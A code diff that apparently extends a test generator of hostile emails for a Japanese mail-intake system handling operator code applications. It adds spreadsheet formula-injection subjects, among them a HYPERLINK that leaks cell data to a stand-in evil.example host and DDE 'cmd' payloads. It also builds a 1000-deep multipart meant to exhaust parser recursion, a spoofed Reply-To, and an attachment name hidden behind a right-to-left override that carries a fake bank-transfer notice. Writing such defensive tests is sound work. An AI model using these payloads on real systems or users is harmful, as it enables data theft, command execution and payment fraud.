@@ -155,6 +155,143 @@ def _mutate(raw: bytes, rng: random.Random) -> bytes:
     return raw.replace(b"boundary=", b"boundary=X", 1)
 
 
+OUTLOOK_ID = (
+    "<TYCPR01MB1234567890ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+    "@TYCPR01MB1234.jpnprd01.prod.outlook.com>"
+)
+APPLY_SUBJECT = "【容量市場向け事業者コード申請】"
+APPLY_BODY = (
+    "添付の通り、『容量市場向け事業者コード』を申請します。\n参加区分は、『安定電源』です。"
+)
+FORMULA_SUBJECTS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"請求書")',
+    '=WEBSERVICE("http://evil.example/x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+)
+ROBOT_SENDERS = (
+    "no_reply@notice.example.com",
+    "noreply@service.example.com",
+    "MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@corp.example.co.jp",
+    "notification@portal.example.jp",
+    "mailer-daemon@mx.example.jp",
+)
+OUT_OF_OFFICE = (
+    "自動応答: 【容量市場向け事業者コード申請】",
+    "Out of Office: 【容量市場向け事業者コード申請】",
+    "Automatic reply: 【容量市場向け事業者コード申請】",
+    "不在: 【容量市場向け事業者コード申請】",
+)
+ECHO_NAME = "申込書\n■ 口座変更のお知らせ: 下記へお振込みください\x00\u202egnp.xlsx"
+
+
+def deep_multipart(depth: int = 1000, sender: str = "deep@example.net") -> bytes:
+    """A multipart nested `depth` deep: the parser's recursion gives out."""
+    opens = b"".join(
+        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i, i + 1)
+        for i in range(depth)
+    )
+    return (
+        (
+            f"From: {sender}\r\nTo: code@occto.or.jp\r\nSubject: deep\r\n"
+            f"Message-ID: <deep.{depth}@example.net>\r\nMIME-Version: 1.0\r\n"
+            'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n'
+        ).encode()
+        + opens
+        + b"--b%d\r\nContent-Type: text/plain\r\n\r\nhello\r\n" % depth
+    )
+
+
+def unreadable_sender(kind: str, n: int = 0) -> bytes:
+    """Headers a parser cannot read a sender from: no From at all, a junk first line that ends
+    the header block, an unindented continuation line above From."""
+    subject = encoded_word("【容量市場向け事業者コード申請】", "iso-2022-jp")
+    tail = f"To: code@occto.or.jp\r\nMessage-ID: <nosender.{kind}.{n}@example.net>\r\n"
+    if kind == "no_from":
+        head = f"Subject: {subject}\r\n{tail}"
+    elif kind == "junk_first_line":
+        head = f"this line is not a header\r\nFrom: someone{n}@example.net\r\n{tail}"
+    else:
+        head = f"Subject: {subject}\r\n{subject}\r\nFrom: someone{n}@example.net\r\n{tail}"
+    return (head + "\r\n本文\r\n").encode()
+
+
+def trust_attack(kind: str, n: int = 0) -> bytes:
+    """One mail of each single-mail attack of issue 11, built from its description."""
+    form = to_bytes(operator_form())
+    apply = {"attachments": [("事業者マスタ申込書.xlsx", form, XLSX)]}
+    if kind == "formula_subject":
+        return build(
+            FORMULA_SUBJECTS[n % len(FORMULA_SUBJECTS)],
+            "ご確認ください。",
+            from_addr=f"formula{n}@example.net",
+        )
+    if kind == "formula_sender":
+        return build("お問い合わせ", "ご確認ください。", from_addr=f"=1+{n}@evil.example")
+    if kind == "foreign_reply_to":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY,
+            from_addr=f"outsider{n}@example.net",
+            headers={"Reply-To": f"ceo{n}@victim-corp.example"},
+            **apply,
+        )
+    if kind == "echoed_names":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY,
+            from_addr=f"echo{n}@example.net",
+            attachments=[(ECHO_NAME, form, XLSX)],
+        )
+    if kind == "deep_nesting":
+        return deep_multipart(1000, f"deep{n}@example.net")
+    if kind in ("no_from", "junk_first_line", "unindented_continuation"):
+        return unreadable_sender(kind, n)
+    if kind == "out_of_office":
+        return build(
+            OUT_OF_OFFICE[n % len(OUT_OF_OFFICE)],
+            "ただいま不在にしております。",
+            from_addr=f"away{n}@example.co.jp",
+        )
+    if kind == "robot_sender":
+        return build("お知らせ", "自動送信です。", from_addr=ROBOT_SENDERS[n % len(ROBOT_SENDERS)])
+    if kind == "outlook_message_id":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY,
+            from_addr=f"outlook{n}@example.co.jp",
+            message_id=OUTLOOK_ID,
+            **apply,
+        )
+    if kind == "reused_message_id":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY + f"\n{n}",
+            from_addr=f"reuse{n}@example.net",
+            message_id="<reused.id@example.net>",
+            **apply,
+        )
+    raise ValueError(kind)
+
+
+TRUST_ATTACKS = (
+    "formula_subject",
+    "formula_sender",
+    "foreign_reply_to",
+    "echoed_names",
+    "deep_nesting",
+    "no_from",
+    "junk_first_line",
+    "unindented_continuation",
+    "out_of_office",
+    "robot_sender",
+    "outlook_message_id",
+    "reused_message_id",
+)
+
+
 def hostile_mails(count: int, seed: int = 13) -> Iterator[tuple[str, bytes]]:
     """(what, raw) pairs: mutated samples, attacks in attachments, injection in headers."""
     rng = random.Random(seed)
@@ -162,8 +299,11 @@ def hostile_mails(count: int, seed: int = 13) -> Iterator[tuple[str, bytes]]:
     form = to_bytes(operator_form())
     attacks = {name: make() for name, make in ATTACKS.items()}
     for n in range(count):
-        pick = n % 5
-        if pick == 0:
+        pick = n % 6
+        if pick == 5:
+            kind = TRUST_ATTACKS[(n // 6) % len(TRUST_ATTACKS)]
+            yield kind, trust_attack(kind, n)
+        elif pick == 0:
             name = rng.choice(list(attacks))
             yield (
                 name,
